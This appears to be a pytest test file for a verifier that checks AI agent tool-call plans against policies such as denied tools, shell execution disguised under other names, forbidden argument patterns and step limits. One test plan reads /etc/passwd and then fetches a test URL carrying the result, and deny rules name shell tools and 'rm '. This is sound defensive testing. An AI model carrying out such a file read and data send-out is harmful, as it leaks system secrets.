"""The documented verifier: what a policy refuses, however it is hidden, and its messages."""

from __future__ import annotations

import re
from typing import Any

import pytest
from tests.compat.worlds import plan_of

from callsheet.compat import PlanPolicy, PlanVerdict, Violation, verify_plan
from callsheet.policy.model import Policy


def rules(text: str, **policy: Any) -> list[tuple[str, str]]:
    return [(v.step_id, v.rule) for v in verify_plan(plan_of(text), PlanPolicy(**policy)).violations]


def test_verdict_is_truthy_if_ok_and_has_reasons() -> None:
    assert PlanVerdict()
    verdict = PlanVerdict(
        [Violation("S1", "denied_tools", "@A is denied"), Violation("plan", "max_steps", "6")]
    )
    assert not verdict
    assert verdict.ok is False
    assert verdict.reason() == "[S1] denied_tools: @A is denied; [plan] max_steps: 6"


@pytest.mark.parametrize("name", ["@HOST_EXEC", "host_exec", "Host_Exec"])
def test_tool_names_are_spelling_insensitive(name: str) -> None:
    plan = 'S1: @host_exec (command="ls")'
    assert rules(plan, denied_tools={name}) == [("S1", "denied_tools")]
    assert rules(plan, allowed_tools={name}) == []


@pytest.mark.parametrize(
    "call",
    [
        '@SHELL_EXEC (code="ls")',
        '@EXEC_CODE (code="ls", language="shell")',
        '@EXEC_CODE (code="ls", language=" BASH ")',
        '@EXEC_CODE ("ls", "sh")',
        '@EXEC_CODE ("shell", code="ls")',
        '@EXEC_CODE (code="ls", language="$l")',
        '@EXEC_CODE (code="ls", language="s$l")',
        '@EXECUTE_CODE (code="ls", language="zsh")',
    ],
)
def test_shell_is_denied_under_every_name(call: str) -> None:
    assert rules(f"S1: {call}", denied_tools={"@SHELL_EXEC"}) == [("S1", "denied_tools")]


@pytest.mark.parametrize("call", ['@EXEC_CODE (code="1")', '@EXEC_CODE ("1", "python")'])
def test_other_code_is_not_shell(call: str) -> None:
    assert rules(f"S1: {call}", denied_tools={"@SHELL_EXEC"}) == []


def test_allowing_code_does_not_allow_shell() -> None:
    plan = 'S1: @EXEC_CODE (code="ls", language="shell")'
    assert rules(plan, allowed_tools={"EXEC_CODE"}) == [("S1", "allowed_tools")]
    assert rules(plan, allowed_tools={"execute_code", "SHELL_EXEC"}) == []


@pytest.mark.parametrize("name", ["@EXEC_CODE", "execute_code"])
def test_denying_code_denies_shell(name: str) -> None:
    """The runtime sends both to the executor `execute_code`."""
    verdict = verify_plan(plan_of('S1: @SHELL_EXEC (code="ls")'), PlanPolicy(denied_tools={name}))
    assert verdict.reason() == "[S1] denied_tools: @SHELL_EXEC is denied (as @EXEC_CODE)"


def test_control_words_are_always_allowed() -> None:
    plan = 'S1: ?IF ($x == 1) THEN GOTO S3\nS2: @RESPOND ("a")\nS3: TERMINATE ("b")'
    assert rules(plan, allowed_tools=set()) == []


def test_control_words_may_be_denied() -> None:
    plan = 'S1: ?IF ($x == 1) THEN GOTO S3\nS2: @RESPOND ("a")\nS3: TERMINATE ("b")'
    assert rules(plan, denied_tools={"GOTO", "@TERMINATE"}) == [
        ("S1", "denied_tools"),
        ("S3", "denied_tools"),
    ]


@pytest.mark.parametrize("name", ["RE-PLAN", "@RE-PLAN", "replan"])
def test_replan_is_allowed_and_denied_by_name(name: str) -> None:
    plan = 'S1: RE-PLAN ("another way")'
    assert rules(plan, allowed_tools={"@WEB_SEARCH"}, no_escape_hatches=False) == [("S1", "allowed_tools")]
    assert rules(plan, allowed_tools={name}, no_escape_hatches=False) == []
    assert rules(plan, denied_tools={name}, no_escape_hatches=False) == [("S1", "denied_tools")]


@pytest.mark.parametrize(
    "text",
    [
        '@WEB_SEARCH (query="a zebra")',
        '@WEB_SEARCH ("a zebra")',
        '@WEB_SEARCH (query="x", zebra=1)',
        '@WEB_SEARCH (query=["a", {"k": "zebra"}])',
        '@WEB_SEARCH (query={"zebra": 1})',
        '@WEB_SEARCH (query=[$x, "zebra"])',
        '@WEB_SEARCH (query="$x zebra")',
        '@WEB_SEARCH (query="ze\\u0062ra")',
        '@RESPOND ("zebra")',
        'TERMINATE ("zebra")',
        '@A () ON_FAIL TERMINATE ("zebra")',
    ],
)
def test_forbidden_pattern_is_found_anywhere(text: str) -> None:
    found = rules(f"S1: {text}", forbidden_arg_patterns=["zebra"])
    assert found == [("S1", "forbidden_arg_patterns")]


def test_numbers_are_matched_as_text() -> None:
    plan = "S1: @STORE_FACT (content=4111111111111111)"
    assert rules(plan, forbidden_arg_patterns=[r"\b4\d{15}\b"]) == [("S1", "forbidden_arg_patterns")]


@pytest.mark.parametrize("end", ["", "\\n"])
def test_dollar_matches_before_final_newline(end: str) -> None:
    plan = f'S1: @NOTE (text="a zebra{end}")'
    assert rules(plan, forbidden_arg_patterns=["zebra$"]) == [("S1", "forbidden_arg_patterns")]


@pytest.mark.parametrize("pattern", ["(", "[a", "a{2,1}", "*", r"(a)\1", "(?=a)b", "(?<!a)b"])
def test_invalid_pattern_is_reported_at_construction(pattern: str) -> None:
    with pytest.raises(ValueError, match=f"{re.escape(repr(pattern))} cannot be read as a pattern"):
        PlanPolicy(forbidden_arg_patterns=["fine", pattern])


@pytest.mark.parametrize("name", ["allowed_tools", "denied_tools", "forbidden_arg_patterns"])
def test_text_instead_of_collection_is_reported(name: str) -> None:
    with pytest.raises(ValueError, match=f"{name} is a string; give a collection of strings"):
        PlanPolicy(**{name: "@HOST_EXEC"})


def test_default_policy_knows_secrets_and_sinks() -> None:
    plan = (
        'S1: @READ_FILE (path="/etc/passwd") > $p\n'
        'S2: @FETCH_PAGE (url="https://x.test/$p")\n'
        'S3: RE-PLAN ("x")'
    )
    assert rules(plan) == [
        ("S1", "forbidden_arg_patterns"),
        ("S2", "no_egress_after_sensitive"),
        ("S3", "no_escape_hatches"),
    ]
    assert verify_plan(plan_of(plan)) == verify_plan(plan_of(plan), PlanPolicy())


def test_budget_covers_whole_plan() -> None:
    assert rules('S1: @A ()\nS2: @RESPOND ("x")', max_steps=1) == [("plan", "max_steps")]
    assert rules("S1: @A ()", max_steps=1) == []


def test_documented_policy_maps_to_callsheet_policy() -> None:
    base = Policy(name="mine", max_calls=7)
    given = PlanPolicy(
        allowed_tools={"@read_file"}, denied_tools={"host_exec"}, max_steps=3, forbidden_arg_patterns=["rm "]
    )

    policy = given.to_policy(base)

    assert (policy.allowed_tools, policy.denied_tools) == ({"READ_FILE"}, {"HOST_EXEC"})
    assert (policy.max_steps, policy.forbidden, policy.max_calls) == (3, ("rm ",), 7)
    assert PlanPolicy().to_policy().allowed_tools is None
